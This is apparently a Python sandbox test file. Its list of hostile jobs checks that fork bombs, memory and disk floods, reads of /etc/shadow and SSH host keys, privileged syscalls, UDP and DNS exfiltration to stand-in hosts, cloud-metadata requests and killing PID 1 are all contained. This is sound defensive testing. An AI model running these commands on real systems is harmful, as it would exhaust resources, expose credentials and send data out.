"""Hostile jobs. Each runs in the runtime image with kernel limits, must end
with the status it deserves (and figures in its exit frame that match what
it did), and must leave the worker and the next job unharmed: a canary job
runs after each and must see a clean sandbox.

The egress proxy (an allowlisted host reached, others refused, DNS
rebinding to loopback, cloud metadata) is tested against a second host in
test_egress.py; the network cases here are jobs without net.allow."""
import os
import subprocess

from kilntest import KilnCase, main, rootfs_args, skip_unless_jail_works, wait_for

skip_unless_jail_works()
ROOTFS = rootfs_args()

# ctypes syscall helper for python jobs: prints "<name> <errno-name>"
SYSCALL = (
    "import ctypes, errno, os\n"
    "libc = ctypes.CDLL(None, use_errno=True)\n"
    "def call(name, nr, *args):\n"
    "    r = libc.syscall(nr, *[ctypes.c_long(a) for a in args])\n"
    "    e = ctypes.get_errno()\n"
    "    print(name, 'OK' if r >= 0 else errno.errorcode.get(e, e))\n")

PY, SH, JS = "python", "shell", "deno-eval"

# name, plugin, code, limits, statuses allowed, stdout must contain / must not contain
HOSTILE = [
    ("fork bomb", SH, "f() { f | f & }; f; sleep 2; echo bombed", {"pids": 64, "timeout_ms": 4000},
     {"ok", "error", "timeout", "killed"}, None, None),
    ("memory bomb", PY, "x = bytearray(1 << 30)\nprint('allocated')", {"memory_mb": 128},
     {"oom"}, None, "allocated"),
    ("memory bomb, slowly", PY, "xs = []\nwhile True:\n    xs.append(bytearray(1 << 20))",
     {"memory_mb": 96}, {"oom"}, None, None),
    ("fill /tmp", SH, "dd if=/dev/zero of=/tmp/fill bs=1M count=4000 2>&1; echo rc=$?", {"file_bytes": 1 << 30},
     {"ok"}, "No space left on device", None),
    ("fill /work", SH, "dd if=/dev/zero of=/work/fill bs=1M count=4000 2>&1; echo rc=$?", {"file_bytes": 1 << 30},
     {"ok"}, "No space left on device", None),
    ("fill /dev/shm", SH, "dd if=/dev/zero of=/dev/shm/fill bs=1M count=500 2>&1; echo rc=$?", {},
     {"ok"}, "No space left on device", None),
    ("output flood", SH, "yes flood", {"output_bytes": 100000}, {"output_limit"}, None, None),
    ("output flood, python", PY, "while True: print('x' * 1000)", {"output_bytes": 50000},
     {"output_limit"}, None, None),
    ("infinite loop", SH, "while :; do :; done", {"timeout_ms": 400}, {"timeout"}, None, None),
    ("infinite loop, deno", JS, "while (true) {}", {"timeout_ms": 800}, {"timeout"}, None, None),
    ("ignores SIGTERM", SH, "trap '' TERM INT HUP; sleep 60", {"timeout_ms": 300}, {"timeout"}, None, None),
    ("sleeps past the timeout", PY, "import time; time.sleep(60)", {"timeout_ms": 300}, {"timeout"}, None, None),
    ("cpu time", PY, "while True: pass", {"cpu_ms": 1000}, {"killed"}, None, None),
    # four processes of 700 ms each: under a limit per process all would
    # finish; the job's limit is all of them together
    ("cpu time, spread over children", SH,
     "for i in 1 2 3 4; do (end=$(($(date +%s%N) + 900000000)); while [ $(date +%s%N) -lt $end ]; do :; done) & done;"
     " wait; echo all finished", {"cpu_ms": 1000, "timeout_ms": 20000}, {"killed"}, None, "all finished"),
    # children the kernel reaps at once (SIGCHLD ignored) leave no trace in
    # anyone's accounting but their cgroup's: one at a time, none would
    # ever be seen over the limit by looking at what is running
    ("cpu time, in children nobody waits for", PY,
     "import os, signal, time\nsignal.signal(signal.SIGCHLD, signal.SIG_IGN)\n"
     "for _ in range(40):\n    if os.fork() == 0:\n        t = time.process_time() + 0.15\n"
     "        while time.process_time() < t: pass\n        os._exit(0)\n    time.sleep(0.2)\n"
     "print('all finished')", {"cpu_ms": 1000, "timeout_ms": 20000}, {"killed"}, None, "all finished"),
    ("thousands of threads", PY,
     "import threading, time\nn = 0\ntry:\n    for i in range(5000):\n"
     "        threading.Thread(target=time.sleep, args=(2,), daemon=True).start(); n += 1\n"
     "except RuntimeError as e:\n    print('stopped at', n, e)\n", {"pids": 100},
     {"ok"}, "can't start new thread", None),
    ("file size", SH, "dd if=/dev/zero of=/work/big bs=1M count=50 2>&1; echo rc=$?", {"file_bytes": 1 << 20},
     {"ok"}, "File size limit exceeded", None),
    ("zombie storm", SH, "for i in $(seq 300); do (exit 0) & done; sleep 0.3; echo done", {"pids": 1000},
     {"ok"}, "done", None),
    ("fd exhaustion", PY,
     "fs = []\ntry:\n    while True: fs.append(open('/dev/null'))\nexcept OSError as e:\n"
     "    print('open files', len(fs), e.errno)\n", {}, {"ok"}, "open files", None),
    ("huge argv", SH, 'echo "$#"', {}, {"ok"}, "2000", None),
    ("huge env", SH, "env | wc -l", {}, {"ok"}, None, None),
    ("read host files", SH,
     "cat /etc/shadow /root/.bash_history /etc/ssh/ssh_host_rsa_key 2>&1; ls -A /root /home; echo end",
     {}, {"ok"}, "No such file", "PRIVATE KEY"),
    ("read host /proc", SH, "ls /proc | grep -c '^[0-9]'; cat /proc/1/environ 2>&1 | head -c 100; echo",
     {}, {"ok"}, "Permission denied", None),
    ("/sys is empty", SH, "ls -A /sys | wc -l", {}, {"ok"}, "0", None),
    ("ptrace the agent", PY, SYSCALL + "call('ptrace', 101, 16, 1, 0, 0)", {}, {"ok"}, "ptrace EPERM", None),
    ("mount", SH, "mount -t tmpfs none /tmp 2>&1; echo rc=$?", {}, {"ok"}, "rc=", "rc=0"),
    ("mount syscall", PY, SYSCALL + "call('mount', 165, 0, 0, 0, 0, 0)", {}, {"ok"}, "mount EPERM", None),
    ("unshare", PY, SYSCALL + "call('unshare', 272, 0x10000000)", {}, {"ok"}, "unshare EPERM", None),
    ("clone a new namespace", PY, SYSCALL + "call('clone', 56, 0x40000000 | 17, 0, 0, 0, 0)", {},
     {"ok"}, "clone EPERM", None),
    ("setuid binaries", SH, "find / -xdev -perm -4000 2>/dev/null | wc -l", {}, {"ok"}, "0", None),
    ("become root", PY, "import os\ntry:\n    os.setuid(0)\nexcept OSError as e:\n    print('setuid', e.errno)\n",
     {}, {"ok"}, "setuid 1", None),
    ("keyctl", PY, SYSCALL + "call('keyctl', 250, 0, 0, 0, 0, 0)", {}, {"ok"}, "keyctl EPERM", None),
    ("bpf", PY, SYSCALL + "call('bpf', 321, 0, 0, 0)", {}, {"ok"}, "bpf EPERM", None),
    ("userfaultfd", PY, SYSCALL + "call('userfaultfd', 323, 0)", {}, {"ok"}, "userfaultfd EPERM", None),
    ("perf_event_open", PY, SYSCALL + "call('perf_event_open', 298, 0, 0, -1, -1, 0)", {}, {"ok"},
     "perf_event_open EPERM", None),
    ("io_uring", PY, SYSCALL + "call('io_uring_setup', 425, 8, 0)", {}, {"ok"}, "io_uring_setup EPERM", None),
    ("raw socket", PY, "import socket\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\n"
     "except OSError as e:\n    print('raw', e.errno)\n", {}, {"ok"}, "raw 1", None),
    ("packet socket", PY, "import socket\ntry:\n    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)\n"
     "except OSError as e:\n    print('packet', e.errno)\n", {}, {"ok"}, "packet 97", None),
    ("udp exfiltration", PY, "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
     "try:\n    s.sendto(b'secret', ('192.0.2.1', 53)); print('SENT')\nexcept OSError as e:\n"
     "    print('udp', e.errno)\n", {}, {"ok"}, "udp 101", "SENT"),
    ("dns exfiltration", PY, "import socket\ntry:\n    socket.getaddrinfo('secret.example.com', 80); print('RESOLVED')\n"
     "except OSError as e:\n    print('dns failed')\n", {}, {"ok"}, "dns failed", "RESOLVED"),
    ("cloud metadata", PY, "import socket\ntry:\n    socket.create_connection(('169.254.169.254', 80), 2); print('CONNECTED')\n"
     "except OSError as e:\n    print('metadata', e.errno)\n", {}, {"ok"}, "metadata 101", "CONNECTED"),
    ("private address", PY, "import socket\ntry:\n    socket.create_connection(('10.0.0.1', 80), 2); print('CONNECTED')\n"
     "except OSError as e:\n    print('private', e.errno)\n", {}, {"ok"}, "private 101", "CONNECTED"),
    ("dmesg", SH, "dmesg 2>&1 | head -1; echo end", {}, {"ok"}, "end", None),
    ("kill the agent", SH, "kill -9 1 2>&1; echo still here", {}, {"ok"}, "still here", None),
    ("chroot", PY, "import os\ntry:\n    os.chroot('/tmp')\nexcept OSError as e:\n    print('chroot', e.errno)\n",
     {}, {"ok"}, "chroot 1", None),
    ("mknod", PY, "import os, stat\ntry:\n    os.mknod('/tmp/mem', stat.S_IFCHR | 0o600, os.makedev(1, 1))\n"
     "except OSError as e:\n    print('mknod', e.errno)\n", {}, {"ok"}, "mknod 1", None),
    ("sethostname", PY, "import socket\ntry:\n    socket.sethostname('evil')\nexcept OSError as e:\n"
     "    print('hostname', e.errno)\n", {}, {"ok"}, "hostname 1", None),
    ("reboot", PY, SYSCALL + "call('reboot', 169, 0xfee1dead, 672274793, 0x4321fedc, 0)", {}, {"ok"},
     "reboot EPERM", None),
    ("left-behind daemon", SH, "(setsid sleep 300 &) ; echo detached", {}, {"ok"}, "detached", None),
    ("deno memory bomb", JS, "const a = []; while (true) a.push(new Array(1e6).fill(1));",
     {"memory_mb": 192}, {"oom", "error", "killed"}, None, None),
    ("deno reads host files", JS, "try { Deno.readTextFileSync('/etc/passwd'); console.log('READ') }"
     " catch (e) { console.log(e.name) }", {}, {"ok"}, "NotCapable", "READ"),
    ("deno writes /tmp", JS, "try { Deno.writeTextFileSync('/tmp/x', 'y'); console.log('WROTE') }"
     " catch (e) { console.log(e.name) }", {}, {"ok"}, "NotCapable", "WROTE"),
    ("deno runs a program", JS, "try { new Deno.Command('/bin/sh').outputSync(); console.log('RAN') }"
     " catch (e) { console.log(e.name) }", {}, {"ok"}, "NotCapable", "RAN"),
    ("deno ffi", JS, "try { Deno.dlopen('/usr/lib/x86_64-linux-gnu/libc.so.6', {}); console.log('LOADED') }"
     " catch (e) { console.log(e.name) }", {}, {"ok"}, "NotCapable", "LOADED"),
    ("deno fetches", JS, "try { await fetch('http://169.254.169.254/'); console.log('FETCHED') }"
     " catch (e) { console.log(e.name) }", {}, {"ok"}, "NotCapable", "FETCHED"),
]


class Adversarial(KilnCase):
    def test_hostile_jobs(self):
        w = self.worker("adv", *ROOTFS, "--pool", "1", "--slots", "2")
        canary_plugins = [SH, PY, JS]
        self.assertGreaterEqual(len(HOSTILE), 40)
        for i, (name, plugin, code, limits, statuses, want, never) in enumerate(HOSTILE):
            with self.subTest(name):
                kw = {"limits": limits} if limits else {}
                if name == "huge argv":
                    kw["args"] = ["a" * 100] * 2000
                if name == "huge env":
                    kw["env"] = {"V%d" % k: "x" * 100 for k in range(500)}
                ex, out, err = self.run_job(code, plugin=plugin, timeout=60, **kw)
                text = out.decode(errors="replace")
                self.assertIn(ex["status"], statuses, "%s: %s\nstdout %r\nstderr %r" % (name, ex, text[-300:], err[-300:]))
                if want:
                    self.assertIn(want, text, name)
                if never:
                    self.assertNotIn(never, text, name)
                self.check_figures(name, ex, out, limits)
                # the worker and the next job are unharmed
                self.assertTrue(w.alive(), "the worker died on " + name)
                cp = canary_plugins[i % 3]
                canary = {SH: "ls -A /tmp /work; echo canary", PY: "import os; print(os.listdir('/tmp'), 'canary')",
                          JS: "console.log('canary')"}[cp]
                cex, cout, _ = self.run_job(canary, plugin=cp, timeout=60)
                self.assertEqual(cex["status"], "ok", "the job after %s failed: %s" % (name, cex))
                self.assertTrue(cout.rstrip().endswith(b"canary"), cout)
                self.assertNotIn(b"fill", cout)
        # a sandbox is torn down after its exit frame (its slot is free at
        # once): its processes must be gone soon after, not at that instant
        for marker in ("sleep 300", "sleep 60"):
            alive = lambda: subprocess.run(["pgrep", "-f", marker], capture_output=True).stdout
            try:
                wait_for(lambda: not alive(), 10, "the sandboxes' teardown")
            except AssertionError:
                pass
            self.assertEqual(alive(), b"", "a hostile job's process outlived its sandbox")

    def check_figures(self, name, ex, out, limits):
        """The exit frame's figures match what the job did."""
        if ex["status"] == "oom":
            self.assertGreaterEqual(ex["max_rss_kb"], limits["memory_mb"] * 1024 * 0.9, ex)
            self.assertLessEqual(ex["max_rss_kb"], limits["memory_mb"] * 1024 * 1.05, ex)
        if ex["status"] == "timeout":
            self.assertGreaterEqual(ex["wall_ms"], limits["timeout_ms"] * 0.9, ex)
            self.assertLess(ex["wall_ms"], limits["timeout_ms"] + 3000, ex)
        if ex["status"] == "output_limit":
            self.assertEqual(len(out), limits["output_bytes"], "output cut exactly at the cap")
        if name.startswith("cpu time"):
            self.assertEqual(ex["signal"], 9, "all its processes killed at the job's limit")
            self.assertGreaterEqual(ex["cpu_ms"], limits["cpu_ms"] * 0.9, ex)
            self.assertLess(ex["cpu_ms"], limits["cpu_ms"] * 1.5, ex)
            self.assertIn("cpu_ms", ex["reason"])
        if name == "infinite loop" and ex["status"] == "timeout":
            self.assertGreater(ex["cpu_ms"], 0)


if __name__ == "__main__":
    main()
